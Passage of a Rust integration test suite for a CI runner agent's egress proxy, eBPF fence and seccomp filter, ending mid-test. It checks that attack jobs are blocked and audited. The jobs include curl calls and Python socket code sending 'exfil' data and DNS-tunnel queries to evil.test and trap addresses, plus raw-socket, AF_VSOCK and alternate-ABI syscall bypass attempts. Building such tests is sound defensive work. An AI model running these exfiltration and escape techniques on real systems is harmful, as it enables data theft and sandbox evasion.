//! `runner-agent run` with the proxy and the eBPF fence in place, attacked from inside a
//! real sandbox as root, against the tests' own internet (DESIGN.md section 8). Every test
//! checks both halves of the claim: nothing reached a target (trap listeners, web server
//! and DNS server records), and an audit event recorded each attempt.

use std::time::Duration;

use runner_agent_tests::agent::{
    denials_where, describe, indent, job_id, read_audit, seccomp_denials, wait_until, World,
    HOST_SIDE,
};
use runner_agent_tests::netbed::{
    allowed_test_bed, allowed_test_config, settle, NetBed, DNS_IP, TRAP_IPS,
};
use runner_agent_tests::require_privilege;
use serde_json::json;

#[test]
fn clients_that_ignore_the_proxy_still_end_at_it_and_names_decide() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let trap = TRAP_IPS[0];
    let job = world.job(
        "names.yaml",
        &format!(
            r#"name: names
steps:
  - name: explicit proxy
    run: curl -fsSk https://allowed.test/explicit && echo PASS-explicit
  - name: ignores the proxy, https by name
    run: curl -fsSk --noproxy '*' https://allowed.test/transparent && echo PASS-transparent
  - name: ignores the proxy, plain http by name
    run: curl -fsS --noproxy '*' http://api.allowed.test/plain && echo PASS-plain
  - name: denied name through the proxy
    run: |
      if curl -fsSk -m 5 https://evil.test/leak1; then exit 1; fi
      echo DENIED-proxy
  - name: denied name, ignoring the proxy
    run: |
      if curl -fsSk -m 5 --noproxy '*' https://evil.test/leak2; then exit 1; fi
      echo DENIED-dns
  - name: allowed SNI toward an attacker's address
    run: |
      if curl -fsSk -m 5 --noproxy '*' --resolve allowed.test:443:{trap} https://allowed.test/leak3; then exit 1; fi
      echo DENIED-sni
  - name: IP literal on 443
    run: |
      if curl -fsSk -m 5 --noproxy '*' https://{trap}/leak4; then exit 1; fi
      echo DENIED-literal
"#
        ),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    for mark in [
        "PASS-explicit",
        "PASS-transparent",
        "PASS-plain",
        "DENIED-proxy",
        "DENIED-dns",
        "DENIED-sni",
        "DENIED-literal",
    ] {
        assert!(
            stdout.contains(mark),
            "{mark} missing\n{}",
            describe(&output)
        );
    }
    let paths: Vec<String> = bed.web_hits().into_iter().map(|h| h.path).collect();
    for path in ["/explicit", "/transparent", "/plain"] {
        assert!(
            paths.iter().any(|p| p == path),
            "{path} did not reach the server: {paths:?}"
        );
    }
    assert!(
        !paths.iter().any(|p| p.starts_with("/leak")),
        "a denied request arrived: {paths:?}"
    );
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    assert!(
        !bed.dns_hits().iter().any(|h| h.name.contains("evil")),
        "a denied name was asked upstream: {:?}",
        bed.dns_hits()
    );
    // Each denial is in the audit log.
    assert!(
        !denials_where(&events, "host", json!("evil.test")).is_empty(),
        "{events:#?}"
    );
    assert!(
        !denials_where(&events, "ip", json!(trap.to_string())).is_empty(),
        "{events:#?}"
    );
    let allowed = events
        .iter()
        .filter(|e| e["verdict"] == "allow" && e["host"] == "allowed.test")
        .count();
    assert!(allowed >= 2, "allowed requests not recorded: {events:#?}");
    let id = world.assert_job_left_nothing(&output);
    assert!(
        events.iter().all(|e| e["job"] == json!(id)),
        "events of another job: {events:#?}"
    );
}

/// Python run inside the sandbox: each attack prints `BLOCKED <name>` when the kernel or
/// the proxy refused it, `LEAK <name>` when it seemed to get through.
const SOCKET_ATTACKS: &str = r#"
import ctypes, socket, struct, sys
trap, host_side = sys.argv[1], sys.argv[2]
leaks = 0
def report(name, ok):
    global leaks
    print(("LEAK " if ok else "BLOCKED ") + name, flush=True)
    leaks += ok
def tcp(name, family, addr, payload=b"EXFIL secret data\r\n\r\n"):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(payload)
        data = s.recv(100)
        # The proxy answers a denied request itself (403) or closes: anything else is a leak.
        report(name, bool(data) and b" 403 " not in data and b" 400 " not in data)
    except OSError:
        report(name, False)
    finally:
        s.close()
def udp(name, fn):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        fn(s)
        report(name, True)
    except OSError:
        report(name, False)
    finally:
        s.close()
for port in (22, 25, 5432, 8080):
    tcp("tcp-literal-%d" % port, socket.AF_INET, (trap, port))
tcp("tcp-v4-mapped", socket.AF_INET6, ("::ffff:" + trap, 5432))
tcp("tcp-ipv6", socket.AF_INET6, ("2001:db8::5", 443))
tcp("host-side-ssh", socket.AF_INET, (host_side, 22))
tcp("host-side-other", socket.AF_INET, (host_side, 9999))
udp("udp-sendto", lambda s: s.sendto(b"exfil", (trap, 9999)))
udp("udp-sendmsg", lambda s: s.sendmsg([b"exfil"], [], 0, (trap, 9999)))
udp("udp-connect", lambda s: (s.connect((trap, 9999)), s.send(b"exfil")))
# sendmmsg(2) through libc: one message to the trap.
def sendmmsg(s):
    libc = ctypes.CDLL(None, use_errno=True)
    addr = struct.pack("!HH4s8x", socket.AF_INET, 9999, socket.inet_aton(trap))
    addr = struct.pack("=H", socket.AF_INET) + addr[2:]
    abuf = ctypes.create_string_buffer(addr, len(addr))
    data = ctypes.create_string_buffer(b"exfil", 5)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    class msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]
    class mmsghdr(ctypes.Structure):
        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
    iov = iovec(ctypes.cast(data, ctypes.c_void_p), 5)
    msg = mmsghdr(msghdr(ctypes.cast(abuf, ctypes.c_void_p), len(addr), ctypes.cast(ctypes.pointer(iov), ctypes.c_void_p), 1, None, 0, 0), 0)
    n = libc.sendmmsg(s.fileno(), ctypes.byref(msg), 1, 0)
    if n < 1:
        raise OSError(ctypes.get_errno(), "sendmmsg")
udp("udp-sendmmsg", sendmmsg)
for name, kind in (("icmp-ping-socket", socket.SOCK_DGRAM), ("icmp-raw-socket", socket.SOCK_RAW)):
    try:
        icmp = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        icmp.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (trap, 0))
        report(name, True)
    except OSError:
        report(name, False)
try:
    socket.socket(17, socket.SOCK_RAW, 0)
    report("packet-socket", True)
except OSError:
    report("packet-socket", False)
# DNS to a resolver of the job's choosing, over UDP and TCP, for a name not allowed.
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
    bytes([len(p)]) + p.encode() for p in "secret.exfil.evil.test".split(".")) + b"\x00\x00\x10\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
try:
    s.sendto(query, (trap, 53))
    reply, peer = s.recvfrom(512)
    rcode = reply[3] & 0x0F
    answers = struct.unpack("!H", reply[6:8])[0]
    report("dns-udp-other-server", rcode == 0 and answers > 0)
except OSError:
    report("dns-udp-other-server", False)
# Over TCP: the fence sends it to the DNS filter, which must not answer the name.
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect((trap, 53))
    s.sendall(struct.pack("!H", len(query)) + query)
    reply = s.recv(600)[2:]
    answered = len(reply) >= 8 and reply[3] & 0x0F == 0 and struct.unpack("!H", reply[6:8])[0] > 0
    report("dns-tcp-other-server", answered)
except OSError:
    report("dns-tcp-other-server", False)
finally:
    s.close()
sys.exit(1 if leaks else 0)
"#;

#[test]
fn socket_level_attacks_get_nowhere_and_are_audited() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let trap = TRAP_IPS[0];
    let (output, events) = world.run_python_audited(
        "sockets",
        "socket attacks",
        HOST_SIDE,
        &format!("{trap} $host_side"),
        SOCKET_ATTACKS,
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(!stdout.contains("LEAK"), "{}", describe(&output));
    // The summary carries the fence's own counters: it refused some of these itself.
    let fence_line = stdout
        .lines()
        .find(|l| l.starts_with("Fence: "))
        .unwrap_or_else(|| panic!("no fence counters in the summary\n{stdout}"));
    let refused: u64 = fence_line
        .split_once(" refused")
        .and_then(|(counts, _)| counts.rsplit(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no refused count in {fence_line:?}"));
    assert!(refused > 0, "{fence_line}");
    let attacks = [
        "tcp-literal-22",
        "tcp-literal-25",
        "tcp-literal-5432",
        "tcp-literal-8080",
        "tcp-v4-mapped",
        "tcp-ipv6",
        "host-side-ssh",
        "host-side-other",
        "udp-sendto",
        "udp-sendmsg",
        "udp-connect",
        "udp-sendmmsg",
        "icmp-ping-socket",
        "icmp-raw-socket",
        "packet-socket",
        "dns-udp-other-server",
        "dns-tcp-other-server",
    ];
    for attack in attacks {
        assert!(
            stdout.contains(&format!("BLOCKED {attack}\n")),
            "{attack} not run\n{stdout}"
        );
    }
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    assert!(
        !bed.dns_hits().iter().any(|h| h.name.contains("evil")),
        "the exfiltration name reached the DNS server: {:?}",
        bed.dns_hits()
    );
    // Audit: every destination the attacks aimed at has a deny event.
    let trap_json = json!(trap.to_string());
    for port in [22, 25, 5432, 8080, 9999] {
        assert!(
            events
                .iter()
                .any(|e| e["verdict"] == "deny" && e["ip"] == trap_json && e["port"] == port),
            "no deny event for {trap}:{port}: {events:#?}"
        );
    }
    assert!(
        events
            .iter()
            .any(|e| e["verdict"] == "deny" && e["ip"] == "2001:db8::5"),
        "no deny event for IPv6: {events:#?}"
    );
    assert!(
        events.iter().any(|e| e["verdict"] == "deny"
            && e["source"] == "ebpf"
            && e["port"] == 22
            && e["ip"] != trap_json),
        "no deny event for the host side: {events:#?}"
    );
    assert!(
        events.iter().any(|e| e["verdict"] == "deny"
            && e["kind"] == "dns"
            && e["host"].as_str().is_some_and(|h| h.contains("evil"))),
        "no DNS deny event: {events:#?}"
    );
    for call in [
        "socket(AF_INET, ICMP)",
        "socket(AF_INET, SOCK_RAW)",
        "socket(AF_PACKET, SOCK_RAW)",
    ] {
        let found =
            seccomp_denials(&events, &format!("{call} refused")).any(|e| e["comm"] == "python3");
        assert!(found, "no deny event for {call}: {events:#?}");
    }
    // A connection that is not HTTP is recorded with where it was headed.
    assert!(
        events.iter().any(|e| e["source"] == "proxy"
            && e["verdict"] == "deny"
            && e["ip"] == trap_json
            && e["port"] == 22
            && e["comm"] == "python3"),
        "{events:#?}"
    );
    for e in events.iter().filter(|e| e["source"] == "ebpf") {
        assert!(
            e["pid"].is_number() && e["comm"].is_string(),
            "ebpf event without process: {e}"
        );
    }
    world.assert_job_left_nothing(&output);
}

/// Runs a job whose one step loops `python_loop_body` (Python, one attempt per
/// iteration, indented for a `while` loop) for two minutes unless stopped, under a 1 MiB
/// audit budget; checks that the job was stopped at the budget, that the log stays within
/// the budget plus the 1 MiB overrun and holds only whole events, more than 1,000 of
/// which match `attempt`, and that nothing of the job is left. Returns the net bed so
/// the caller can check that nothing reached its servers.
fn flood_is_stopped_at_the_audit_budget(
    python_setup: &str,
    python_loop_body: &str,
    attempt: impl Fn(&serde_json::Value) -> bool,
) -> NetBed {
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(
        bed.host_ns(),
        "limits: { audit_log: 1MiB }",
        &allowed_test_config("", ""),
    );
    let job = world.job(
        "flood.yaml",
        &format!(
            "name: flood\nsteps:\n  - name: flood\n    run: |\n      python3 - <<'PY'\n      import socket, time\n      {python_setup}\n      end = time.time() + 120\n      while time.time() < end:\n          try:\n              {python_loop_body}\n          except OSError:\n              pass\n      print('FLOOD-RAN-OUT')\n      PY\n  - name: never runs\n    run: echo SHOULD-NOT-RUN\n"
        ),
    );
    let started = std::time::Instant::now();
    let (output, audit) = world.run_audited_to(&job);
    settle();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{}", describe(&output));
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
    assert!(
        stdout.contains(
            "[1/2] flood: failed: stopped: its audit events reached limits.audit_log (1MiB)"
        ),
        "{}",
        describe(&output)
    );
    assert!(!stdout.contains("FLOOD-RAN-OUT"), "{}", describe(&output));
    assert!(
        !stdout.contains("SHOULD-NOT-RUN\n"),
        "{}",
        describe(&output)
    );
    let bytes = std::fs::metadata(&audit).expect("audit log").len();
    assert!(
        (1 << 20..=2 << 20).contains(&bytes),
        "audit log of {bytes} bytes for a 1 MiB budget"
    );
    // Every line is a whole event (read_audit panics on one that is not).
    let events = read_audit(&audit);
    let attempts = events.iter().filter(|e| attempt(e)).count();
    assert!(attempts > 1000, "{attempts} events of the flood's attempts");
    world.assert_job_left_nothing(&output);
    bed
}

/// A job that floods the fence with denied sends cannot fill the host's disk through its
/// audit log: it is stopped at `limits.audit_log`, and nothing reached the trap.
#[test]
fn a_job_flooding_denials_is_stopped_at_its_audit_budget() {
    require_privilege!();
    let trap = TRAP_IPS[0];
    // UDP to a trap: each send is refused by the fence and is one audit event.
    let bed = flood_is_stopped_at_the_audit_budget(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        &format!("s.sendto(b'x', ('{trap}', 9))"),
        |e| e["source"] == "ebpf" && e["verdict"] == "deny" && e["port"] == 9,
    );
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
}

/// A flood of denials faster than the agent can read them overflows the fence's event
/// ring: the denials the kernel could not itemise are still refused, and the audit log
/// itself says how many there were (before, only the summary on stdout did, so the log
/// looked complete while an attempt made during the flood had no line).
#[test]
fn denials_the_fence_could_not_itemise_are_recorded_as_such() {
    require_privilege!();
    let trap = TRAP_IPS[0];
    let (bed, world) = allowed_test_bed();
    let job = world.job(
        "overflow.yaml",
        &format!(
            r#"name: overflow
steps:
  - name: flood
    run: |
      python3 - <<'PY'
      import socket, time
      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      end = time.time() + 2
      while time.time() < end:
          for _ in range(1000):
              try:
                  s.sendto(b'x', ('{trap}', 9))
              except OSError:
                  pass
      print('FLOOD-DONE')
      PY
"#
        ),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(stdout.contains("FLOOD-DONE"), "{}", describe(&output));
    // The summary's count of unitemised denials...
    let summary_lost: u64 = stdout
        .split(" denials not itemised")
        .next()
        .and_then(|before| before.rsplit('(').next())
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("the flood overflowed nothing:\n{}", describe(&output)));
    // ...is in the log too, as events that add up to it.
    let recorded: u64 = events
        .iter()
        .filter(|e| {
            e["source"] == "ebpf"
                && e["verdict"] == "deny"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("more denials not itemised"))
        })
        .map(|e| {
            e["reason"]
                .as_str()
                .and_then(|r| r.split(' ').next())
                .and_then(|n| n.parse::<u64>().ok())
                .expect("a count first")
        })
        .sum();
    assert_eq!(recorded, summary_lost, "{events:#?}");
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    world.assert_job_left_nothing(&output);
}

/// The same through the DNS filter: a stream of lookups of a denied name is answered
/// locally, one audit event each, until the budget stops the job; the upstream server
/// never sees the name.
#[test]
fn a_job_flooding_the_dns_filter_is_stopped_at_its_audit_budget() {
    require_privilege!();
    // A minimal A query for flood.evil.test (RFC 1035 4.1), sent to the resolver the
    // sandbox was given; replies are not read (the socket's buffer just fills).
    let bed = flood_is_stopped_at_the_audit_budget(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]; q = bytes.fromhex('abcd01000001000000000000') + b'\\x05flood\\x04evil\\x04test\\x00' + bytes.fromhex('00010001')",
        "s.sendto(q, (ns, 53))",
        |e| {
            e["source"] == "dns"
                && e["verdict"] == "deny"
                && e["host"].as_str().is_some_and(|h| h.starts_with("flood.evil.test"))
        },
    );
    assert!(
        !bed.dns_hits().iter().any(|h| h.name.contains("evil")),
        "a denied name reached the upstream server: {:?}",
        bed.dns_hits()
    );
}

/// Socket families other than unix, inet, inet6 and netlink are refused and audited,
/// whatever the upper half of the register holds: AF_VSOCK in particular, which needs no
/// capability and on a VM host reaches the hypervisor outside every network namespace.
/// Netlink route, sock_diag and generic keep working (getaddrinfo and `ip` use them) and
/// cause no denial; its other protocols (host device events among them) are refused.
#[test]
fn socket_families_outside_the_fence_are_refused_and_audited() {
    require_privilege!();
    let (_bed, world) = allowed_test_bed();
    let job = world.job(
        "families.yaml",
        r#"name: families
steps:
  - name: families
    run: |
      python3 - <<'PY'
      import ctypes, socket
      libc = ctypes.CDLL(None, use_errno=True)
      for name in ("AF_VSOCK", "AF_ALG", "AF_XDP", "AF_BLUETOOTH", "AF_CAN", "AF_TIPC", "AF_RDS", "AF_KEY"):
          family = getattr(socket, name, None) or {"AF_XDP": 44, "AF_KEY": 15}[name]
          for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
              try:
                  socket.socket(family, kind).close()
                  print("LEAK-" + name)
              except OSError:
                  pass
      # The same call with garbage in the register's upper half (the kernel reads only the
      # int): still refused, still recorded.
      libc.syscall.restype = ctypes.c_long
      if libc.syscall(ctypes.c_long(41), ctypes.c_long((1 << 32) | 40), ctypes.c_long(1), ctypes.c_long(0)) >= 0:
          print("LEAK-vsock-high-bits")
      for protocol in (0, 4, 16):  # route, sock_diag, generic
          socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
      print("NETLINK-OK")
      for protocol in (15, 9, 6, 11):  # kobject_uevent, audit, xfrm, connector
          try:
              socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
              print("LEAK-netlink-%d" % protocol)
          except OSError:
              pass
      PY
      getent hosts localhost >/dev/null && echo GETENT-OK
"#,
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(!stdout.contains("LEAK"), "{}", describe(&output));
    assert!(stdout.contains("NETLINK-OK"), "{}", describe(&output));
    assert!(stdout.contains("GETENT-OK"), "{}", describe(&output));
    let refused = |call: &str| {
        seccomp_denials(&events, call)
            .filter(|e| {
                e["comm"] == "python3"
                    && e["reason"]
                        .as_str()
                        .is_some_and(|r| r.contains(") refused"))
            })
            .count()
    };
    // Four socket types for each, plus the high-bits call for AF_VSOCK.
    assert_eq!(refused("socket(AF_VSOCK"), 5, "{events:#?}");
    for family in [
        "AF_ALG",
        "AF_XDP",
        "AF_BLUETOOTH",
        "AF_CAN",
        "AF_TIPC",
        "AF_RDS",
        "AF_KEY",
    ] {
        assert!(
            refused(&format!("socket({family}")) >= 1,
            "{family}: {events:#?}"
        );
    }
    // Host device events (kobject_uevent), audit, xfrm and connector are refused and
    // recorded; route, sock_diag and generic (and getent's own netlink) are not.
    for protocol in [15, 9, 6, 11] {
        assert_eq!(
            refused(&format!("socket(AF_NETLINK, SOCK_RAW, protocol {protocol}")),
            1,
            "netlink protocol {protocol}: {events:#?}"
        );
    }
    assert!(
        !events.iter().any(|e| e["reason"].as_str().is_some_and(|r| {
            ["protocol 0)", "protocol 4)", "protocol 16)", "family 16"]
                .iter()
                .any(|p| r.contains(p))
        })),
        "an allowed netlink protocol was refused: {events:#?}"
    );
    world.assert_job_left_nothing(&output);
}

/// Every refused system call is recorded, however many came before: init once stopped
/// reporting after 10,000, so a job could make 10,000 harmless refused calls and then try
/// the one it cared about unseen.
#[test]
fn refusals_past_ten_thousand_are_still_recorded() {
    require_privilege!();
    let (_bed, world) = allowed_test_bed();
    let job = world.job(
        "many.yaml",
        r#"name: many
steps:
  - name: many refusals
    run: |
      python3 - <<'PY'
      import ctypes, socket
      libc = ctypes.CDLL(None, use_errno=True)
      for _ in range(10050):
          libc.syscall(321, 0, 0, 0)  # bpf(2)
      try:
          socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
          print("LEAK-vsock")
      except OSError:
          print("VSOCK-REFUSED")
      PY
"#,
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(stdout.contains("VSOCK-REFUSED"), "{}", describe(&output));
    let refused = |call: &str| seccomp_denials(&events, call).count();
    assert_eq!(refused("bpf()"), 10050);
    assert_eq!(
        refused("socket(AF_VSOCK)"),
        1,
        "the last refusal was not recorded"
    );
    world.assert_job_left_nothing(&output);
}

#[test]
fn calls_through_other_abis_are_refused_and_audited() {
    // The filter's rules are in native x86_64 numbers. A 64-bit process can still make
    // 32-bit calls (`int 0x80`, another numbering: 359 is socket, 20 getpid) and, on
    // kernels built with the x32 ABI, x32 calls (native numbers plus 0x40000000). Both
    // must be refused and recorded, not run (x32) nor silently kill the caller (32-bit).
    // On this kernel x32 is not built in, so an x32 call that got past the filter would
    // fail with ENOSYS; refused by the filter it fails with EPERM.
    require_privilege!();
    if !cfg!(target_arch = "x86_64") {
        println!("skipped: the ABIs exercised here are x86_64's");
        return;
    }
    let (_bed, world) = allowed_test_bed();
    let job = world.job(
        "abis.yaml",
        r#"name: abis
steps:
  - name: x32
    run: |
      python3 - <<'PY'
      import ctypes
      libc = ctypes.CDLL(None, use_errno=True)
      libc.syscall.restype = ctypes.c_long
      X32 = 0x40000000
      for name, nr, args in (("socket", 41, (40, 1, 0)), ("bpf", 321, (0, 0, 0))):
          ret = libc.syscall(ctypes.c_long(X32 | nr), *[ctypes.c_long(a) for a in args])
          errno = ctypes.get_errno()
          print("X32-%s ret %d errno %d" % (name, ret, errno))
      PY
  - name: int 0x80
    run: |
      cat > /tmp/i386.c <<'C'
      #include <stdio.h>
      static long int80(long nr, long a, long b, long c) {
          long ret;
          __asm__ volatile ("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
          return ret;
      }
      int main(void) {
          printf("I386-getpid ret %ld\n", int80(20, 0, 0, 0));
          printf("I386-socket ret %ld\n", int80(359, 40, 1, 0));
          fflush(stdout);
          return 0;
      }
      C
      gcc -o /tmp/i386 /tmp/i386.c
      /tmp/i386
      echo I386-SURVIVED
"#,
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    for line in [
        "X32-socket ret -1 errno 1",
        "X32-bpf ret -1 errno 1",
        "I386-getpid ret -1",
        "I386-socket ret -1",
        "I386-SURVIVED",
    ] {
        assert!(
            stdout.contains(line),
            "no {line:?} in {}",
            describe(&output)
        );
    }
    let refused = |call: &str| seccomp_denials(&events, call).count();
    assert_eq!(refused("x32 socket(AF_VSOCK)"), 1, "{events:#?}");
    assert_eq!(refused("x32 bpf()"), 1, "{events:#?}");
    assert_eq!(refused("32-bit system call 20"), 1, "{events:#?}");
    assert_eq!(refused("32-bit system call 359"), 1, "{events:#?}");
    world.assert_job_left_nothing(&output);
}

#[test]
fn a_second_agent_on_the_same_pool_is_refused_and_leaves_the_first_alone() {
    // Two agents with run directories of their own (so slot locks of their own) but the
    // same runner pool: their runners get the same veth name and subnet. The second one
    // used to fail on the name, then delete the first one's veth in its clean-up, cutting
    // a running job's network while that job went on to succeed.
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let first = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
    let second = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
    let long = first.job(
        "long.yaml",
        r#"name: long
steps:
  - name: fetch in a loop
    run: |
      for i in $(seq 1 10); do
        curl -fsSk -m 3 -o /dev/null https://allowed.test/first-$i && echo "FETCHED $i"
        sleep 0.3
      done
"#,
    );
    let short = second.job(
        "short.yaml",
        "name: short\nsteps:\n  - name: never runs\n    run: echo SECOND-RAN\n",
    );
    let running = first.spawn(&long);
    assert!(
        wait_until(Duration::from_secs(20), || first
            .host_links()
            .iter()
            .any(|l| l.starts_with("ra"))),
        "the first runner never appeared"
    );
    let links_before = first.host_links();
    // The host side of the running runner's veth, in the agent's namespace, has the
    // veth's largest MTU like the runner's side (sandbox_isolation checks that one).
    let runner_links: Vec<&String> = links_before
        .iter()
        .filter(|l| l.starts_with("ra"))
        .collect();
    assert!(!runner_links.is_empty(), "the runner's veth is gone");
    for link in runner_links {
        let mtu = std::process::Command::new("ip")
            .args(["netns", "exec", bed.host_ns(), "cat"])
            .arg(format!("/sys/class/net/{link}/mtu"))
            .output()
            .expect("ip netns exec");
        assert_eq!(
            String::from_utf8_lossy(&mtu.stdout).trim(),
            runner_agent::network::RUNNER_LINK_MTU.to_string(),
            "mtu of {link}: {mtu:?}"
        );
    }
    let refused = second.run(&short);
    let links_after = first.host_links();
    let finished = running.wait_with_output().expect("first agent");

    assert_eq!(refused.status.code(), Some(2), "{}", describe(&refused));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains("same network.runner_pool"),
        "the refusal does not say why: {}",
        describe(&refused)
    );
    assert!(!String::from_utf8_lossy(&refused.stdout).contains("SECOND-RAN"));
    assert_eq!(
        links_before, links_after,
        "the second agent changed the host's links"
    );
    assert_eq!(finished.status.code(), Some(0), "{}", describe(&finished));
    let fetched = String::from_utf8_lossy(&finished.stdout)
        .lines()
        .filter(|l| l.starts_with("FETCHED "))
        .count();
    assert_eq!(fetched, 10, "{}", describe(&finished));
    first.assert_job_left_nothing(&finished);
    second.assert_left_nothing(&[]);
}

/// The cgroup directory (under `root`) a process is in for the hierarchy whose line in
/// /proc/PID/cgroup matches `hierarchy` ("0::" for v2, or a v1 controller list).
fn cgroup_of(pid: u32, hierarchy: impl Fn(&str) -> bool, root: &str) -> Option<std::path::PathBuf> {
    let text = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).ok()?;
    text.lines().find_map(|line| {
        let mut parts = line.splitn(3, ':');
        let (id, controllers, path) = (parts.next()?, parts.next()?, parts.next()?);
        let key = format!("{id}:{controllers}");
        hierarchy(&key).then(|| std::path::Path::new(root).join(path.trim_start_matches('/')))
    })
}

#[test]
fn the_proxy_runs_in_a_cgroup_of_its_own_with_the_jobs_cpu_share() {
    // What a job makes its proxy do (lookups, connections, handshakes) costs the proxy's
    // CPU and memory, not the job's: the proxy runs in a cgroup of its own, with the job's
    // CPU share and a memory bound, removed with the runner.
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(
        bed.host_ns(),
        "limits: { cpus: 0.5 }",
        &allowed_test_config("", ""),
    );
    let job = world.job(
        "confined.yaml",
        "name: confined\nsteps:\n  - name: wait\n    run: sleep 3 && echo WAITED\n",
    );
    let mut agent = world.spawn(&job);
    let mut stderr = agent.stderr.take().expect("stderr");
    let id = wait_for_job_id(&mut stderr);
    let mut proxy = Vec::new();
    assert!(
        wait_until(Duration::from_secs(20), || {
            proxy = runner_agent_tests::agent::children_with(agent.id(), "__egress-proxy");
            proxy.len() == 1
                && cgroup_of(proxy[0], |k| k == "0:", "/")
                    .is_some_and(|p| p.to_string_lossy().ends_with("-proxy"))
        }),
        "the proxy never reached a cgroup of its own"
    );
    let pid = proxy[0];
    let pure_v2 = std::path::Path::new("/sys/fs/cgroup/cgroup.controllers").exists();
    let (cpu, memory) = if pure_v2 {
        let dir = cgroup_of(pid, |k| k == "0:", "/sys/fs/cgroup").unwrap();
        (
            std::fs::read_to_string(dir.join("cpu.max")).unwrap(),
            std::fs::read_to_string(dir.join("memory.max")).unwrap(),
        )
    } else {
        let cpu = cgroup_of(
            pid,
            |k| {
                k.split(':')
                    .nth(1)
                    .is_some_and(|c| c.split(',').any(|c| c == "cpu"))
            },
            "/sys/fs/cgroup/cpu",
        )
        .unwrap();
        let memory = cgroup_of(pid, |k| k.ends_with(":memory"), "/sys/fs/cgroup/memory").unwrap();
        (
            std::fs::read_to_string(cpu.join("cpu.cfs_quota_us")).unwrap(),
            std::fs::read_to_string(memory.join("memory.limit_in_bytes")).unwrap(),
        )
    };
    assert!(cpu.trim().starts_with("50000"), "cpu limit {cpu:?}");
    assert_eq!(memory.trim(), (512u64 << 20).to_string());
    let output = agent.wait_with_output().expect("agent");
    assert_eq!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stdout).contains("WAITED"));
    world.assert_left_nothing(&[id]);
}

#[test]
fn decisions_of_the_explicit_proxy_name_the_process() {
    // A job that honours HTTP(S)_PROXY talks to the proxy's own address; the fence
    // records which process connected, as it does for redirected connections, so the
    // explicit proxy's events say who tried what (they had no pid or command name).
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let job = world.job(
        "explicit.yaml",
        r#"name: explicit
steps:
  - name: through the proxy
    run: |
      curl -fsS -o /dev/null http://allowed.test/explicit-ok
      if curl -fsS -m 5 -o /dev/null http://evil.test/explicit-denied; then exit 1; fi
      if curl -fsSk -m 5 -o /dev/null https://evil.test/connect-denied; then exit 1; fi
      echo DONE
"#,
    );
    let (output, events) = world.run_audited(&job);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    let of = |kind: &str, host: &str, verdict: &str| {
        events
            .iter()
            .find(|e| {
                e["source"] == "proxy"
                    && e["kind"] == kind
                    && e["host"] == host
                    && e["verdict"] == verdict
            })
            .unwrap_or_else(|| panic!("no {verdict} {kind} event for {host}: {events:#?}"))
    };
    for event in [
        of("http", "allowed.test", "allow"),
